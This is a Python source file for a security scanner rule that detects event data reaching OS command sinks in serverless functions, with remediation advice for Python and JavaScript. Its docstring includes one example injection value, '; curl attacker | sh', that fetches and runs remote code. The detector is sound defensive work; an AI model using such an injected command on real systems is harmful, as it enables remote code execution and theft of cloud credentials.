"""RMT-CODE-001."""

from __future__ import annotations

from collections.abc import Iterator

from remit.analysis import Analysis
from remit.code.facts import Language, SinkKind
from remit.findings import Category, Responsibility, Severity
from remit.model.entities import Function
from remit.rules.base import Hit, rule
from remit.rules.code._common import flow_hits, remediation

IMPACT = ("the attacker runs commands in the function's execution environment, with its role's "
          'credentials')

FIXES = {
    Language.PYTHON: ('Pass a list of arguments without shell=True (subprocess.run(["convert", path, '
                      'out])) and never build a command string from event data; quote with '
                      'shlex.quote only when a shell is unavoidable, and check values against an '
                      'allow-list.'),
    Language.JAVASCRIPT: ('Run a fixed program with an argument array and no shell: '
                          'execFile("convert", [key, out]) or spawn(...) without shell: true; never '
                          'pass event data to exec / execSync or a shell string; check values against '
                          'an allow-list.'),
}


@rule(
    id="RMT-CODE-001",
    title='Event data reaches an OS command',
    severity=Severity.CRITICAL,
    category=Category.EVENT_INJECTION,
    responsibility=Responsibility.CODE,
    scope=Function,
    impact=("Whoever sends the event runs shell commands inside the function: they read the role's temporary "
            "credentials from the environment and use every permission the role has, read the code and `/tmp`, or "
            "send data to their own server."),
    remediation=remediation(FIXES),
    references=(
        'https://docs.python.org/3/library/subprocess.html#security-considerations',
        'https://cwe.mitre.org/data/definitions/78.html',
        'CSA SAS-1 Function Event-Data Injection',
    ),
    cwe=('CWE-78',),
)
def check(fn: Function, an: Analysis) -> Iterator[Hit]:
    """Event data reaches a shell or the program name of a process.

    Python: ``os.system``, ``os.popen``, ``subprocess.*`` with ``shell=True`` or with a command *string*, and
    the ``os.exec*`` / ``os.spawn*`` family. JavaScript / TypeScript: ``child_process.exec`` / ``execSync``,
    ``spawn`` / ``execFile`` with ``shell: true`` or with event data as the program, shelljs and execa. They
    run what they are given. When a field of the event (an API request's body, a query parameter, an S3
    object key a partner chose, an SQS message) is part of that text, the sender picks the command:
    ``; curl attacker | sh`` runs in the function's execution environment with the function role's temporary
    credentials in its environment variables.

    An argument list without a shell (``subprocess.run([...])``, ``execFile(bin, [...])``) is safe for every
    element but the first (the program); values that went through ``shlex.quote``, ``int()`` /
    ``parseInt``, or an allow-list check are not reported.
    """
    yield from flow_hits(fn, an, SinkKind.COMMAND, Severity.CRITICAL, IMPACT, FIXES)
